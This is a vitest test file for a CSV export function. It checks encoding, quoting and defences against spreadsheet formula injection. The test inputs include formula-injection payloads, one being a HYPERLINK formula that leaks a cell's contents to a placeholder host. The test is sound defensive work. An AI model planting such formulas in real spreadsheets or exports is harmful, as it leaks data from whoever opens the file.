// The CSV writer: Excel must read the Chinese, keep figures as numbers and never run a citizen's text.
import type { Table } from '@yichuang/shared/reports';
import { describe, expect, it } from 'vitest';
import { tableCsv } from './tables.js';

const csvOf = (rows: Table['rows']): string => tableCsv({ id: 't', title: 'T', columns: ['文字 Text', '数值 Value'], rows });

describe('tableCsv', () => {
  it('writes a BOM, CRLF line endings and RFC 4180 quoting', () => {
    expect(csvOf([['a,b', 1.5], ['说 "好"', 0], ['两行\n文字', '—']])).toBe('\uFEFF文字 Text,数值 Value\r\n"a,b",1.5\r\n"说 ""好""",0\r\n"两行\n文字",—\r\n');
  });

  it.each(['=HYPERLINK("http://x.example/?q="&A1,"点此")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1'])('neutralises a text cell starting %j with a quote', (text) => {
    const line = csvOf([[text, 1]]).split('\r\n')[1]!;
    expect(line.replace(/^"/, '')).toMatch(/^'/);
    expect(line).toContain(text.replace(/"/g, '""'));
  });

  it('quotes a cell with a lone CR, so the row stays one record', () => {
    expect(csvOf([['a\rb', 1]]).split('\r\n')[1]).toBe('"a\rb",1');
  });

  it('leaves figures alone, negative ones included', () => {
    expect(csvOf([['差额', -2.5], ['比率', '—']]).split('\r\n').slice(1, 3)).toEqual(['差额,-2.5', '比率,—']);
  });
});
